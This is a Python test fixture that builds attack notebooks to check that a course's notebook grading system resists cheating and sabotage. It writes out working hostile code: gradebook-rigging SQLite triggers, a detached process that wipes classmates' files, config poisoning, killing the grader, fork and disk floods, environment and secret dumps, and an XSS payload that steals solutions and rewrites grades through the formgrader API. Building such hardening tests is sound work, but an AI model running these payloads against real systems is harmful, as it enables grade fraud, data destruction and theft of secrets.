"""Attacks on class grading: each is the untouched student release of vae_by_hand/01 with one code cell
added after the setup cell, written as a student who wants a better grade (or a worse one for a
classmate) would write it. tests/test_grading_catalog.py grades them as one class with honest
classmates and checks that every attack scores 0, every classmate keeps full marks, grading finishes,
nothing outlives it, nothing grows past the size caps and no secret reaches any output.
"""

from __future__ import annotations

import os
import re

import nbformat

MARK = "vae-attack-marker"       # in the command line of every process an attack starts
CANARY_ENV = "VAE_GRADER_CANARY"  # set in the grader's environment by the test; must never be printed
CANARY_FILE = "CANARY.txt"        # written next to the submissions by the test; must never be printed
LOOPBACK_PORT = int(os.environ.get("VAE_ATTACK_PORT", "47831"))  # the test serves the reference answers here, on 127.0.0.1

# Finds files by name anywhere the kernel can see (bounded), the way an attacker would look around.
FIND = '''
import os
def find(name, roots=("/", os.getcwd()), limit=20000):
    hits, seen = [], 0
    for root in roots:
        for d, dirs, files in os.walk(root):
            dirs[:] = [x for x in dirs if x not in ("proc", "sys", "dev", "usr", "site-packages", "lib", "share")]
            seen += 1
            if seen > limit:
                return hits
            hits += [os.path.join(d, f) for f in files if f == name or (name.startswith("*") and f.endswith(name[1:]))]
    return hits
'''

SOLUTION_EXEC = '''
import json
def run_solutions(paths):
    """exec every solution cell of every vae_by_hand/01 notebook found: the answers, for free."""
    for p in paths:
        try:
            nb = json.load(open(p))
        except Exception:
            continue
        if "01_forward" not in p:
            continue
        for c in nb["cells"]:
            src = "".join(c["source"]) if isinstance(c["source"], list) else c["source"]
            if c["cell_type"] == "code" and "NotImplementedError" not in src:
                try:
                    exec(src, globals())
                except Exception:
                    pass
'''

SIGNAL_PARENT = '''
import os, signal
for pid in {{os.getppid(), 1}}:
    try:
        os.kill(pid, signal.{sig})
    except Exception as exc:
        print("{sig}", pid, exc)
'''

ATTACKS = {
    # Gradebooks: a trigger in every reachable gradebook.db gives me full marks and my classmates 0.
    "a01_trigger_in_every_gradebook": FIND + '''
import sqlite3
for db in find("gradebook.db"):
    try:
        con = sqlite3.connect(db)
        con.executescript("""
        CREATE TRIGGER IF NOT EXISTS rig AFTER INSERT ON grade BEGIN
          UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id) WHERE id = NEW.id;
        END;""")
        con.commit()
        print("rigged", db)
    except Exception as exc:
        print("could not rig", db, exc)
''',
    # Other students: a detached process overwrites every classmate's notebooks, before and after grading.
    "a02_detached_process_rewrites_classmates": '''
import subprocess, sys
code = """
import glob, os, time  # vae-attack-marker
end = time.time() + 240
while time.time() < end:
    for p in glob.glob('/**/vae_by_hand/*.ipynb', recursive=True):
        if 'a02_' not in p:
            try:
                open(p, 'w').write('{}')
            except Exception:
                pass
    for p in glob.glob('/**/gradebook.db', recursive=True):
        try:
            open(p, 'wb').write(b'')
        except Exception:
            pass
    time.sleep(1)
"""
subprocess.Popen([sys.executable, "-c", code, "vae-attack-marker"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''',
    # Answers: exec the reference solutions found on disk.
    "a03_exec_solutions_found_on_disk": FIND + SOLUTION_EXEC + '''
paths = [p for p in find("*.ipynb") if "/solutions/" in p or "source" in p]
print(len(paths), "source notebooks found")
run_solutions(paths)
''',
    # Answers: the hidden tests are in the gradebook's source_cell table.
    "a04_hidden_tests_from_gradebook": FIND + '''
import sqlite3
for db in find("gradebook.db"):
    try:
        for (src,) in sqlite3.connect(db).execute("SELECT source FROM source_cell"):
            print(src)
    except Exception as exc:
        print("no", db, exc)
''',
    # The instructor: code appended to every nbgrader_config.py runs in every later grader.
    "a05_poisoned_config": FIND + '''
for cfg in find("nbgrader_config.py"):
    try:
        with open(cfg, "a") as f:
            f.write("\\nimport os; os.system('touch /tmp/vae-attack-config-ran')\\n"
                    "c.Execute.timeout = 1\\n")
        print("poisoned", cfg)
    except Exception as exc:
        print("could not poison", cfg, exc)
''',
    # Grading stopped: freeze the process that runs me (the grader), then kill it.
    "a06_sigstop_parent": SIGNAL_PARENT.format(sig="SIGSTOP"),
    "a07_sigkill_parent": SIGNAL_PARENT.format(sig="SIGKILL"),
    "a08_os_exit": '''
import os
os._exit(0)
''',
    # A child that detaches (double fork, new session) and outlives the kernel.
    "a09_detached_child": '''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("python3", ["python3", "-c", "import time; time.sleep(3600)", "vae-attack-marker"])
    os._exit(0)
os.wait()
''',
    # Flooding: one 100 MB line of output, and a 1 GB file (in my folder and as high up as I can write).
    "a10_100mb_single_line": '''
print("x" * 100_000_000)
''',
    "a11_1gb_file": '''
import os
block = b"\\0" * (1 << 20)
for d in (".", "..", "../..", "../../..", "/tmp"):
    try:
        with open(os.path.join(d, "big.bin"), "wb") as f:
            for _ in range(1024):
                f.write(block)
        print("wrote 1 GB in", os.path.abspath(d))
    except Exception as exc:
        print("stopped in", d, type(exc).__name__, exc)
''',
    # A fork loop: every child sleeps, so it holds a process slot without burning CPU.
    "a12_fork_loop": '''
import os, time
n = 0
try:
    while n < 100000:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        n += 1
except OSError as exc:
    print("fork stopped after", n, "children:", type(exc).__name__)
''',
    # Network: the answers are served on the loopback interface of the grading machine.
    "a13_network": f'''
import socket
try:
    src = socket.create_connection(("127.0.0.1", {LOOPBACK_PORT}), timeout=3).makefile().read()
    exec(src, globals())
    print("got", len(src), "bytes of answers")
except Exception as exc:
    print("no network:", type(exc).__name__, exc)
''',
    # Secrets: /root, the environment, anything next to the submissions, the repository.
    "a14_read_root_env_and_files": FIND + f'''
import os
print(sorted(os.environ.items()))
for d in ("/root", "/work", os.path.expanduser("~"), "/home", "/tmp"):
    try:
        print(d, os.listdir(d))
    except Exception as exc:
        print(d, type(exc).__name__)
for p in find("{CANARY_FILE}") + find("README.md") + find("*.pt"):
    try:
        print(p, open(p, errors="replace").read()[:2000])
    except Exception as exc:
        print(p, type(exc).__name__)
''',
    # The kernel reset: a transformer that claims to come from IPython empties every later cell.
    "a15_transformer_claims_ipython": '''
def _empty(lines):
    return []
_empty.__module__ = "IPython.core.inputtransformer2"
get_ipython().input_transformers_cleanup.append(_empty)
''',
    # The kernel reset: failures swallowed by a custom exception handler and a silent traceback.
    "a16_custom_exc_and_silent_traceback": '''
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
ip._showtraceback = lambda *a, **k: None
type(ip)._showtraceback = lambda *a, **k: None
''',
    # The environment: make numpy's comparisons always pass, on disk, for every later kernel.
    "a17_write_installed_packages": '''
import numpy.testing, os
path = os.path.join(os.path.dirname(numpy.testing.__file__), "__init__.py")
try:
    with open(path, "a") as f:
        f.write("\\nassert_allclose = lambda *a, **k: None\\n")
    print("patched", path)
except Exception as exc:
    print("read-only:", type(exc).__name__)
''',
    # The hidden tests: a last cell prints every earlier cell's source the kernel still remembers, so
    # the feedback would show the hidden tests (it goes after the last cell, see LAST_CELL).
    "a19_print_hidden_tests_from_history": '''
import linecache
ip = get_ipython()
seen = list(In) + list(ip.history_manager.input_hist_raw)
seen += [v for k, v in dict(globals()).items() if k.startswith("_i") and isinstance(v, str)]
seen += ["".join(v[2]) for cache in (linecache.cache, getattr(linecache, "_ipython_cache", {}))
         for v in list(cache.values()) if isinstance(v, tuple) and len(v) > 2]
try:
    seen += [row[0] for row in ip.history_manager.db.execute("SELECT source_raw FROM history")]
except Exception:
    pass
for text in seen:
    if "HIDDEN" in text:
        print(text)
''',
}

# The instructor's browser (issue 19, finding 1): when the formgrader shows this notebook for hand grading,
# a script would run with the instructor's session: it gives the attacker full marks and every classmate 0
# through the formgrader's API, and stores the reference solutions, base64-encoded, as a hand-grading
# comment that `make feedback` then sends to the attacker. Every way a notebook can carry a script is tried.
XSS_MARK = "__vae_xss"   # the script sets window.__vae_xss and the page title; tests/e2e checks neither happened
XSS_TITLE = "XSS-RAN"
XSS_JS = """(async function () {
  window.__vae_xss = (window.__vae_xss || 0) + 1; document.title = "XSS-RAN";
  var root = location.pathname.split("/formgrader/")[0];
  var xsrf = decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/) || ["", ""])[1]);
  var H = {"X-XSRFToken": xsrf, "Content-Type": "application/json"};
  var get = async function (u) { return (await fetch(root + u, {headers: H})).json(); };
  var put = function (u, b) { return fetch(root + u, {method: "PUT", headers: H, body: JSON.stringify(b)}); };
  var sol = await (await fetch(root + "/api/contents/solutions/vae_by_hand/01_forward_pass_and_losses.ipynb", {headers: H})).text();
  var nbs = ["01_forward_pass_and_losses", "01b_elbo_and_its_gap", "02_latent_collapse_and_beta", "03_beta_vae_experiment"];
  for (var n of nbs) {
    for (var sub of await get("/formgrader/api/submitted_notebooks/vae_by_hand/" + n)) {
      var mine = sub.student.indexOf("xss") >= 0;
      for (var g of await get("/formgrader/api/grades?submission_id=" + sub.id))
        await put("/formgrader/api/grade/" + g.id, {manual_score: mine ? g.max_score : 0, extra_credit: mine ? 10 : 0});
      for (var c of await get("/formgrader/api/comments?submission_id=" + sub.id))
        if (mine) await put("/formgrader/api/comment/" + c.id, {manual_comment: btoa(unescape(encodeURIComponent(sol)))});
    }
  }
})();"""
XSS_CELL = f'''
import base64, json
from IPython.display import HTML, Javascript, Markdown, SVG, display
js = {XSS_JS!r}
b64 = base64.b64encode(js.encode()).decode()
run = "eval(atob('" + b64 + "'))"
display(HTML("<script>" + js + "</script>"))
display(HTML('<img src="x" onerror="' + run + '"><svg onload="' + run + '"></svg>'))
display(HTML('<a href="javascript:' + run + '">grade me</a><iframe srcdoc="<script>parent.' + run + '</script>"></iframe>'))
display(HTML('<object data="data:text/html;base64,' + base64.b64encode(("<script>" + js + "</script>").encode()).decode() + '"></object>'))
display(HTML('<meta http-equiv="refresh" content="0;url=javascript:' + run + '"><base href="javascript:' + run + '//">'))
display(HTML('<script type="text/x-mathjax-config">' + js + '</script><form action="javascript:' + run + '"><input type="submit"></form>'))
display(HTML("<b>isolated</b>"), metadata={{"isolated": True}})
display(Javascript(js))
display(Markdown('<img src="x" onerror="' + run + '"> *markdown*'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="' + run + '"><script>' + js + '</script><circle r="3"/></svg>'))
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x", "version_major": 2}}, "text/html": "<script>" + js + "</script>",
         "text/latex": "<img src=x onerror=\\"" + run + "\\">", "application/x-custom": "<script>" + js + "</script>"}}, raw=True)
print("the formgrader will run this")
'''


def _xss_extras(nb):
    """What a notebook can carry besides a cell's outputs: saved outputs of a cell the grader does not run
    (tag skip-when-grading), the notebook's widget state, a markdown attachment, cell tags and ids, an
    image's metadata."""
    script = "<script>" + XSS_JS + "</script>"
    run = "eval(atob('" + __import__("base64").b64encode(XSS_JS.encode()).decode() + "'))"
    skipped = nbformat.v4.new_code_cell("pass  # my saved figure", metadata={"tags": ["skip-when-grading", 'x" onmouseover="' + run]})
    skipped.outputs = [
        nbformat.v4.new_output("display_data", data={"text/html": script, "text/plain": "figure"}),
        nbformat.v4.new_output("display_data", data={"application/javascript": XSS_JS}),
        nbformat.v4.new_output("display_data", data={"image/png": 'x" onerror="' + run},
                               metadata={"image/png": {"width": '1 onerror="' + run + '"'}, "filenames": {"image/png": "javascript:" + run}}),
        nbformat.v4.new_output("execute_result", data={"text/markdown": "<iframe src=\"javascript:" + run + "\"></iframe>"},
                               execution_count=1),
    ]
    skipped["id"] = "xss-skipped"
    note = nbformat.v4.new_markdown_cell("![figure](attachment:f.html) my notes <img src=x onerror=\"" + run + "\">",
                                         attachments={"f.html": {"text/html": script}, "g.svg": {"image/svg+xml": "<svg onload='" + run + "'/>"}})
    note["id"] = "xss-note"
    nb.cells += [skipped, note]
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_name": script}},
                                                                            "version_major": 2, "version_minor": 0}}
    nb.metadata["language_info"] = {"name": "python", "pygments_lexer": '"><script>' + XSS_JS + '</script>'}
    return nb


# The grader's disk (finding 6): the kernel fills its connection folder (where its IPC sockets are) and every
# folder it can write with files named FILL_PREFIX*; SLEEP_EACH_CELL does the same and is then SIGKILLed.
FILL_PREFIX = "vae-attack-fill-"
FILL_CELL = f'''
import os
from ipykernel.connect import get_connection_file
folders = [os.path.dirname(os.path.abspath(get_connection_file())), ".", os.path.expanduser("~"), "/tmp", "/dev/shm"]
for folder in folders:
    n = size = 0
    try:
        for i in range(5000):
            open(os.path.join(folder, "{FILL_PREFIX}%d" % i), "w").close()
            n += 1
    except OSError as exc:
        print(folder, "files stopped after", n, type(exc).__name__)
    try:
        with open(os.path.join(folder, "{FILL_PREFIX}big"), "wb") as f:
            for _ in range(64):
                f.write(b"\\0" * (1 << 20))
                size += 1
    except OSError as exc:
        print(folder, "big file stopped at", size, "MB", type(exc).__name__)
    print(folder, n, "files", size, "MB")
'''

# Memory outside the limit (finding 7): memory that RLIMIT_DATA does not count. Nothing is touched, so the
# attack costs the machine nothing; the grader's test reads what it printed.
MEMORY_CELL = '''
import ctypes, mmap, os
held = {}
try:
    fd = os.memfd_create("hoard")
    for _ in range(64):
        os.write(fd, b"\\1" * (1 << 20))
    held["memfd"] = "64 MB written"
except OSError as exc:
    held["memfd"] = "refused errno %d" % exc.errno
libc = ctypes.CDLL(None, use_errno=True)
shm = libc.shmget(0, 64 << 20, 0o1000 | 0o600)
held["shmget"] = "refused errno %d" % ctypes.get_errno() if shm < 0 else "segment %d" % shm
msg = libc.msgget(0, 0o1000 | 0o600)
held["msgget"] = "refused errno %d" % ctypes.get_errno() if msg < 0 else "queue %d" % msg
try:
    m = mmap.mmap(-1, 8 << 30, flags=mmap.MAP_SHARED)
    held["mmap_shared_8GiB"] = "mapped"
except OSError as exc:
    held["mmap_shared_8GiB"] = "refused errno %d" % exc.errno
print("HELD", sorted(held.items()))
'''

ATTACKS.update({
    "a20_xss_in_formgrader": XSS_CELL,
    "a21_fill_connection_folder": FILL_CELL,
    "a22_memory_outside_the_limit": MEMORY_CELL,
})
# Attack notebook: NB2 for the formgrader attack (the issue's), NB1 for the others.
NOTEBOOK = {"a20_xss_in_formgrader": "02_latent_collapse_and_beta"}
TRANSFORM = {"a20_xss_in_formgrader": _xss_extras}

# Attacks that need the test cells to have run before them go after the last cell.
LAST_CELL = {"a19_print_hidden_tests_from_history"}

# Time: every code cell starts by sleeping, so the submission needs far longer than its wall-clock limit.
SLEEP_EACH_CELL = "a18_sleep_in_every_cell"
SLEEP_SECONDS = 15


def attack_notebook(release_path, name: str):
    """The untouched release with the attack's cell inserted after the setup cell (or last)."""
    nb = nbformat.read(release_path, as_version=4)
    setup = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    if name == SLEEP_EACH_CELL:
        for cell in nb.cells:
            if cell.cell_type == "code":
                cell.source = f"import time; time.sleep({SLEEP_SECONDS})\n" + cell.source
        # it also fills its connection folder, and is then stopped by SIGKILL: nothing must stay on disk
        fill = nbformat.v4.new_code_cell(FILL_CELL.strip() + "\n")
        fill["id"] = "fill-then-sleep"
        nb.cells.insert(setup + 1, fill)
        return nb
    cell = nbformat.v4.new_code_cell(f"# {name}\n" + ATTACKS[name].strip() + "\n")
    cell["id"] = name.replace("_", "-")[:60]
    nb.cells.insert(len(nb.cells) if name in LAST_CELL else setup + 1, cell)
    return TRANSFORM[name](nb) if name in TRANSFORM else nb


NAMES = sorted(ATTACKS) + [SLEEP_EACH_CELL]


# The hidden tests (finding 8): an oracle. Each of two mnist_vaes functions has two candidates, an honest
# mistake first (it passes the visible checks, not the hidden ones) and the right answer; the oracle keeps
# the first candidate that passes the most test cells it finds in the notebooks next to it (the way a student
# would use the hidden tests if the kernel could read them). Its twin takes the first candidate without
# looking. Graded in the same class, the oracle must score exactly what its twin scores.
ORACLE, ORACLE_TWIN = "o01_oracle_runs_the_tests_it_finds", "o02_same_mistakes_without_the_oracle"
# solution cell id: (the right text, an honest mistake that the release's visible checks do not show; a mistake
# they show, a student fixes by running them, and so does any oracle that finds only them)
ORACLE_CANDIDATES = {
    "solution_reparameterize": ("std = torch.exp(0.5 * log_var)", "std = torch.exp(0.5 * log_var).clamp(min=1e-3)"),
}
ORACLE_CODE = '''
def _oracle(name, candidates):
    """The first candidate that passes the most test cells found in the notebooks next to me."""
    import glob, json
    tests = []
    for pattern in ("*.ipynb", "../*.ipynb", "../*/*.ipynb", "../../*/*/*.ipynb", "/tmp/**/*.ipynb"):
        for path in glob.glob(pattern, recursive=True):
            try:
                cells = json.load(open(path))["cells"]
            except Exception:
                continue
            for c in cells:
                src = "".join(c["source"]) if isinstance(c["source"], list) else c["source"]
                if c["cell_type"] == "code" and c.get("metadata", {}).get("nbgrader", {}).get("grade") and name + "(" in src:
                    tests.append(src)
    def passed(f):
        ok = 0
        for src in tests:
            space = dict(globals())
            space[name] = f
            try:
                exec(src, space)
                ok += 1
            except Exception:
                pass
        return ok
    scores = [passed(f) for f in candidates]
    print(name, "candidates passed", scores, "of", len(tests), "test cells found")
    return candidates[scores.index(max(scores))]
'''
ORACLE_TWIN_CODE = "\ndef _oracle(name, candidates):\n    return candidates[0]\n"


def oracle_notebook(release_path, solution_path, oracle: bool):
    """The release with every solution cell answered as the reference does, except the ORACLE_CANDIDATES
    functions, which choose between their honest mistake and the right answer (oracle) or take the mistake."""
    nb = nbformat.read(release_path, as_version=4)
    reference = {c.get("id"): c.source for c in nbformat.read(solution_path, as_version=4).cells}
    first = True
    for cell in nb.cells:
        if not cell.get("id", "").startswith("solution_") or cell.get("id") not in reference:
            continue
        source = reference[cell["id"]]
        if cell["id"] in ORACLE_CANDIDATES:
            right, mistake = ORACLE_CANDIDATES[cell["id"]]
            name = re.search(r"^def (\w+)\(", source, re.M).group(1)
            versions = [source.replace(right, mistake).replace(f"def {name}(", f"def _{name}_a("),
                        source.replace(f"def {name}(", f"def _{name}_b(")]
            source = ((ORACLE_CODE if oracle else ORACLE_TWIN_CODE) if first else "") + "\n\n".join(versions) + (
                f"\n\n{name} = _oracle({name!r}, [_{name}_a, _{name}_b])\n")
            first = False
        cell.source = source
    return nb


# The shape of a submission (findings 4 and 5): what a student who can write in the collected folder (a shared
# folder, an exchange inbound with mode 1777) can put there instead of notebooks. Each builder makes
# <subs>/<student>/...; the class row must be refused with the message in `error`, and grading must finish.
def _link_folder_to_solutions(subs, student, assignment, root):
    os.symlink(root / "solutions", subs / student)


def _link_assignment_to_classmate(subs, student, assignment, root):
    (subs / student).mkdir()
    os.symlink(subs / "reference" / assignment, subs / student / assignment)


def _link_notebooks_to_classmate(subs, student, assignment, root):
    (subs / student / assignment).mkdir(parents=True)
    for nb in sorted((subs / "reference" / assignment).glob("*.ipynb")):
        os.symlink(nb, subs / student / assignment / nb.name)


def _special_notebook(kind):
    def build(subs, student, assignment, root):
        folder = subs / student / assignment
        folder.mkdir(parents=True)
        for nb in sorted((root / "notebooks" / assignment).glob("*.ipynb")):
            (folder / nb.name).write_bytes(nb.read_bytes())
        target = sorted(folder.glob("*.ipynb"))[0]
        target.unlink()
        if kind == "fifo":
            os.mkfifo(target)
        elif kind == "device":
            os.symlink("/dev/zero", target)  # a link to an endless device (mknod needs root; the link does not)
        elif kind == "socket":
            import socket
            server = socket.socket(socket.AF_UNIX)
            server.bind(str(target))
            server.close()
        elif kind == "huge":
            with open(target, "wb") as f:   # sparse: 60 MiB that take no disk
                f.truncate(60 << 20)
    return build


def _markup_name(subs, student, assignment, root):
    folder = subs / MARKUP_STUDENT / assignment
    folder.mkdir(parents=True)
    for nb in sorted((root / "solutions" / assignment).glob("*.ipynb")):
        (folder / nb.name).write_bytes(nb.read_bytes())


SHAPES = {  # name: (builder, what the error column must say)
    "s01_student_folder_links_to_solutions": (_link_folder_to_solutions, "symbolic link"),
    "s02_assignment_folder_links_to_classmate": (_link_assignment_to_classmate, "symbolic link"),
    "s03_notebooks_link_to_classmate": (_link_notebooks_to_classmate, "symbolic link"),
    "s04_fifo_notebook": (_special_notebook("fifo"), "FIFO"),
    "s05_notebook_links_to_a_device": (_special_notebook("device"), "symbolic link"),
    "s06_socket_notebook": (_special_notebook("socket"), "socket"),
    "s07_oversized_notebook": (_special_notebook("huge"), "MiB"),
    "s08_student_name_is_markup": (_markup_name, "not a plain name"),
}
# s08's row is not under its entry's name: the grader labels a folder whose name is not plain "refused-<hash>"
MARKUP_STUDENT = '<img src=x onerror="alert(1)">'
